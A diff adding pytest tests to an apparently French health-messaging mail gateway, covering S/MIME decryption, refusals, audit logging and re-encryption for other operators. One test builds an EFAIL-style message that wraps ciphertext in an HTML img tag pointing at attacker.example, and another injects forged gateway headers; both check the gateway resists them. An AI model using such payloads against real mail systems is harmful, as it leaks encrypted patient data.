@@ -18,7 +18,7 @@ import pytest
 from click.testing import CliRunner
 from pypdf import PdfReader
 
-from certs.envelopes import decrypt_message
+from certs.envelopes import decrypt_message, is_encrypted
 from certs.tls import submission_client_context
 from config import load
 from gateway.cli.root import cli
@@ -31,8 +31,10 @@ from tests.support.dovecot import free_port
 from tests.support.encryption import (
     Holder,
     encrypted,
+    fields_of,
     holder,
     organisation,
+    signing,
     text_entity,
     wrapped,
 )
@@ -43,9 +45,23 @@ from tests.support.gateway import (
     read,
     refusal_text,
     text_of,
+    words_of,
 )
-from tests.support.operators import made_operator, operators_folder, own_certificate, write_list
-from tests.support.threads import Thread, answered, open_thread, request_form, request_values
+from tests.support.operators import (
+    made_operator,
+    operators_folder,
+    own_certificate,
+    resident,
+    write_list,
+)
+from tests.support.threads import (
+    Thread,
+    answered,
+    attachments,
+    open_thread,
+    request_form,
+    request_values,
+)
 
 pytestmark = pytest.mark.timeout(180)
 HERE, THERE = region.DOMAIN, "voisin.mssante.example"
@@ -345,3 +361,242 @@ def test_all_failures_have_one_answer_and_leave_nothing(space: Space, thread: Th
     assert answers["tag"].startswith("550 5.7.5 ")
     space.here.settled()
     assert all(b"Secret du patient" not in raw for raw, _ in thread.raw_seen_by(thread.requester))
+
+
+def test_the_refusal_says_what_to_do_and_the_audit_trail_only_that_it_was(
+    space: Space, thread: Thread
+) -> None:
+    draft = draft_of(thread)
+    with pytest.raises(smtplib.SMTPException) as refused:
+        sent(thread, draft, wrapped(draft, text_entity("Non signe."), [space.keys.target()]))
+    assert "Signez-le" in refusal_text(refused.value)
+    assert space.here.ask(lambda services: stored(services, draft["message-id"])) == []
+
+    async def refusals(services: Services) -> list[str]:
+        async with services.store.reading() as tx:
+            lines = await tx.audit.list(limit=10_000)
+        return [line.result for line in lines if line.action == "refuse"]
+
+    assert set(space.here.ask(refusals)) == {"550 5.7.5"}
+
+
+def test_what_is_for_others_too_and_is_not_opened_goes_to_them_untouched(
+    space: Space, thread: Thread
+) -> None:
+    """Somebody whose own key is named can read it, whatever we make of it."""
+    draft, reader = draft_of(thread), space.person(thread.requester)
+    raw = wrapped(draft, text_entity("Pour deux."), [space.keys.target(gcm=False), reader.target(gcm=False)])
+    sent(thread, draft, raw)
+    copy = raw_copy(thread, thread.requester, draft)
+    assert octets_after_header(copy) == octets_after_header(raw)
+    assert read(copy)["x-tle-decrypted"] is None
+    ((row, _, clear),) = space.here.ask(lambda services: stored(services, draft["message-id"]))
+    assert clear is None
+    assert "not opened or not authenticated" in command(space, "explain", str(row.id))
+
+
+def test_mail_encrypted_between_users_passes_untouched_and_is_marked(space: Space, thread: Thread) -> None:
+    draft, reader = draft_of(thread), space.person(thread.requester)
+    raw = encrypted(draft, text_entity("Entre nous."), [reader.target()], space.person(thread.expert))
+    sent(thread, draft, raw)
+    copy = raw_copy(thread, thread.requester, draft)
+    assert octets_after_header(copy) == octets_after_header(raw)
+    assert b"Entre nous." in decrypt_message(copy, [reader.decryptor])
+    assert read(copy)["x-tle-decrypted"] is None
+    form = thread.form(thread.expert, "Finaliser")
+    assert "message chiffré, non repris dans la synthèse" in words_of(form)
+    answer = thread.requester.ask_service(f"Synthèse {thread.ref}")
+    (pdf,) = [content for name, content in attachments(answer).items() if name.endswith(".pdf")]
+    assert "Message chiffré, non repris dans la synthèse" in pdf_text(pdf)
+    worklist = words_of(thread.requester.ask_service("Mes téléexpertises"))
+    assert "1 message chiffré, non repris dans la synthèse" in worklist
+    told = command(space, "explain", thread.ref)
+    assert "encrypted end to end, not to a certificate of ours" in told
+    thread.finalise(thread.expert)
+    _, report = thread.report(thread.requester)
+    assert "non repris dans le compte rendu" in pdf_text(report)
+
+
+def test_an_encrypted_part_is_never_opened(space: Space, thread: Thread) -> None:
+    """Direct exfiltration: somebody's ciphertext between two parts of HTML that would send it away."""
+    draft = draft_of(thread)
+    victim = encrypted(
+        draft, text_entity("Secret du patient."), [space.keys.target()], space.person(thread.expert)
+    )
+    part = entity_in(victim)
+    html = b"Content-Type: text/html\r\n\r\n"
+    body = b"".join(
+        b"--b\r\n%s\r\n" % each for each in (html + b"<img src='http://attacker.example/", part, html + b"'>")
+    )
+    header = b"".join(f"{name}: {value}\r\n".encode() for name, value in fields_of(draft))
+    raw = (
+        header
+        + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+        + body
+        + b"--b--\r\n"
+    )
+    sent(thread, draft, raw)
+    copy = raw_copy(thread, thread.requester, draft)
+    assert octets_after_header(copy) == octets_after_header(raw)
+    ((_, _, clear),) = space.here.ask(lambda services: stored(services, draft["message-id"]))
+    assert clear is None
+
+
+def test_fields_of_the_gateway_inside_of_the_encryption_are_not_believed(
+    space: Space, thread: Thread
+) -> None:
+    draft, author = draft_of(thread), space.person(thread.expert)
+    host = space.here.settings.hostname
+    forged = (
+        b"X-TLE-State: completed\r\nX-TLE-Decrypted: forged\r\nX-TLE-Place: INBOX\r\nReturn-Path: <a@b.fr>\r\n"
+        b"Authentication-Results: " + host.encode() + b"; smime=pass\r\nBcc: x@y.example\r\n"
+    )
+    signed = signing(author)(text_entity("Champs forges."))
+    raw = wrapped(draft, forged + signed, [space.keys.target()])
+    sent(thread, draft, raw)
+    copy = read(raw_copy(thread, thread.requester, draft))
+    assert copy.get_all("x-tle-state") == ["in_progress"]
+    assert [value.partition(";")[0] for value in copy.get_all("x-tle-decrypted")] == [HERE]
+    assert len(copy.get_all("authentication-results")) == 1
+    assert copy["bcc"] is None
+    assert copy["x-tle-place"] is None
+
+
+def test_an_encrypted_mail_in_doubt_is_released_decrypted(space: Space, thread: Thread) -> None:
+    draft = draft_of(thread)
+    for field in ("subject", "in-reply-to", "references"):
+        del draft[field]
+    draft["Subject"] = "Sans reference"
+    raw = encrypted(
+        draft, text_entity("Apres confirmation."), [space.keys.target()], space.person(thread.expert)
+    )
+    sent(thread, draft, raw)
+    asked = thread.expert.answer_to(draft)
+    assert "Sans reference" in text_of(asked)
+    subject = re.search(r"Confirmer [A-Za-z0-9]+", text_of(asked).replace("\n", " "))
+    assert subject, text_of(asked)
+    thread.expert.send(thread.expert.compose(space.here.service, subject[0]))
+    assert b"Apres confirmation." in raw_copy(thread, thread.requester, draft)
+
+
+def test_the_same_ciphertext_twice_is_one_exchange(space: Space, thread: Thread) -> None:
+    draft = draft_of(thread)
+    raw = encrypted(draft, text_entity("Une fois."), [space.keys.target()], space.person(thread.expert))
+    sent(thread, draft, raw)
+    thread.copy_of(thread.requester, draft)
+    sent(thread, draft, raw)
+    space.here.settled()
+    copies = [mail for mail, _ in thread.raw_seen_by(thread.requester) if b"Une fois." in mail]
+    assert len(copies) == 1
+
+
+def test_a_mail_as_large_as_allowed_comes_through(space: Space, thread: Thread) -> None:
+    draft = draft_of(thread)
+    line = b"A" * 76 + b"\r\n"
+    photo = (
+        b"Content-Type: application/octet-stream; name=scan.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        + line * 225_000
+    )
+    raw = encrypted(draft, photo, [space.keys.target()], space.person(thread.expert))
+    assert 24_000_000 < len(raw) < space.here.settings.smtp.max_message_bytes
+    sent(thread, draft, raw)
+    assert raw_copy(thread, thread.requester, draft).count(line.strip()) == 225_000
+
+
+# -- to other operators -------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def colleague(space: Space) -> Client:
+    """Somebody at the other operator of whom nothing is known yet."""
+    return space.there.client(resident(region.CARDIOLOGIST, THERE))
+
+
+def invite(thread: Thread, client: Client) -> None:
+    """Bring a person of the other operator into the conversation."""
+    reply = thread.expert.reply(thread.question(thread.expert), "Avec avis de cardiologie.")
+    reply["Cc"] = client.address
+    thread.expert.send(reply)
+    client.wait(lambda mail: mail["message-id"] == reply["message-id"])
+
+
+def test_a_member_elsewhere_without_known_certificate_gets_nothing_and_the_sender_a_report(
+    space: Space, thread: Thread, colleague: Client
+) -> None:
+    invite(thread, colleague)
+    draft = draft_of(thread)
+    raw = encrypted(
+        draft, text_entity("Ne part pas en clair."), [space.keys.target()], space.person(thread.expert)
+    )
+    sent(thread, draft, raw)
+    thread.copy_of(thread.requester, draft)
+    report = thread.expert.wait(
+        lambda mail: (
+            mail.get_content_type() == "multipart/report" and str(draft["message-id"]) in mail.as_string()
+        )
+    )
+    status = report.as_string()
+    assert f"Final-Recipient: rfc822; {colleague.address}" in status
+    assert "Status: 5.7.4" in status
+    assert "Action: failed" in status
+    assert "Ne part pas en clair" not in status
+    space.here.settled()
+    assert not any("Ne part pas" in mail.as_string() for mail in colleague.mails())
+    # What we write about it ourselves does not leave readable either.
+    thread.finalise(thread.expert)
+    _, pdf = thread.report(thread.requester)
+    assert f"Un message n'a pas pu être remis à {colleague.address}." in pdf_text(pdf)
+    space.here.settled()
+    assert not any("compte rendu" in str(mail["subject"]).lower() for mail in colleague.mails())
+
+
+def test_a_member_elsewhere_whose_certificate_is_known_gets_it_encrypted_anew(
+    space: Space, thread: Thread, tmp_path: Path
+) -> None:
+    guest = space.there.client(resident(region.NURSE, THERE))
+    invite(thread, guest)
+    own = holder(space.there.settings, guest.address)
+    received = guest.wait(lambda mail: thread.ref in str(mail["subject"]) or mail["x-tle-ref"] == thread.ref)
+    hello = guest.reply(received, "")
+    content = signing(own)(text_entity("Bonjour, voici mon certificat."))
+    header = b"".join(f"{name}: {value}\r\n".encode() for name, value in fields_of(hello))
+    guest.send_bytes(header + b"MIME-Version: 1.0\r\n" + content, [address_in(hello)])
+    thread.copy_of(thread.expert, hello)
+
+    draft = draft_of(thread)
+    raw = encrypted(
+        draft, text_entity("Scelle a nouveau."), [space.keys.target()], space.person(thread.expert)
+    )
+    sent(thread, draft, raw)
+    copy = guest.wait(lambda mail: mail["message-id"] == draft["message-id"])
+    octets = next(o for o, _ in guest.raw_mails() if read(o)["message-id"] == draft["message-id"])
+    assert is_encrypted(octets)
+    assert copy["subject"] == "[...]"
+    opened = decrypt_message(octets, [own.decryptor])
+    assert opened == decrypt_message(raw, [space.keys.decryptor])
+    (tmp_path / "mail.eml").write_bytes(octets)
+    (tmp_path / "own.pem").write_bytes(own.issued.certificate_pem + own.issued.key_pem)
+    judged = run("openssl", "cms", "-decrypt", "-in", tmp_path / "mail.eml", "-inkey", tmp_path / "own.pem")
+    assert b"Scelle a nouveau." in judged.stdout, judged.stderr
+    thread.finalise(thread.expert)
+    report = guest.wait(
+        lambda mail: thread.ref in str(mail["subject"]) and mail.get_content_subtype() == "pkcs7-mime"
+    )
+    inside = read(
+        decrypt_message(report.as_bytes(policy=report.policy.clone(linesep="\r\n")), [own.decryptor])
+    )
+    assert inside.get_content_type() == "multipart/signed"
+    assert f"{thread.ref}-v1.pdf" in attachments(inside)
+
+
+def test_over_tls_alone_where_the_operator_allows_it(space: Space) -> None:
+    doctor = space.there.client(resident(region.STRANGER, THERE))
+    reader = space.here.client(region.STRANGER)
+    draft = doctor.compose(reader.address, "Courrier", "")
+    author = holder(space.there.settings, doctor.address)
+    raw = encrypted(draft, text_entity("Lisible chez vous."), [space.there_keys.target()], author)
+    doctor.send_bytes(raw, [reader.address])
+    copy = reader.wait(lambda mail: mail["message-id"] == draft["message-id"])
+    assert copy.get_content_type() == "multipart/signed"
+    assert copy["subject"] == "[...]", "what its author hid is not told on the way"
+    assert "smime=pass" in copy["authentication-results"]
